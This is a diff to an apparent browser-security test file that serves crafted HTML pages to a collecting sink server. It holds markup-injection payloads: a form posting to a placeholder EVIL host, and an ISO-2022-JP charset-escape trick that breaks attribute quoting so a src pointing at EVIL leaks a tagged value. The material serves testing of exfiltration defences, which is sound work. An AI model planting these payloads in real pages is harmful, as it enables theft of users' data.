@@ -19,8 +19,9 @@ const pages = {
   "/web/textarea": xhtml(`<textarea>${picture}</textarea>`),
   "/web/prefixed": xhtml(`<h:form id="sent" action="${EVIL}"><h:input name="own" value="${TAG}"/></h:form>`),
   "/web/section": xhtml(`<p title="<![CDATA[">${picture}</p>`.replace("<![CDATA[", "&lt;![CDATA[")),
-  // Between the two escapes every byte is half a letter: the quotes and the end of the tag are gone.
-  "/web/escapes": ["text/html", `<!doctype html><meta charset="iso-2022-jp"><title>a page</title><p>${TAG}</p><img alt="\x1b$B" src="/x">\x1b(B <p title=" src=${EVIL}${TAG} ">`],
+  // Between the two escapes every byte is half a letter: the quotes and the end of the tag are gone, and what somebody wrote
+  // into the next attribute stands outside of it.
+  "/web/escapes": ["text/html", `<!doctype html><meta charset="iso-2022-jp"><title>a page</title><img alt="\x1b$B" src="/x">\x1b(B <p title=" src='${EVIL}">a <b title="${TAG}">b</b> ' ></p>`],
   "/web/control": ["text/html", `<!doctype html><title>a page</title><p id="own">${TAG}</p>`],
 };
 const [sink, site] = [await startSink(), await startSite(pages)];
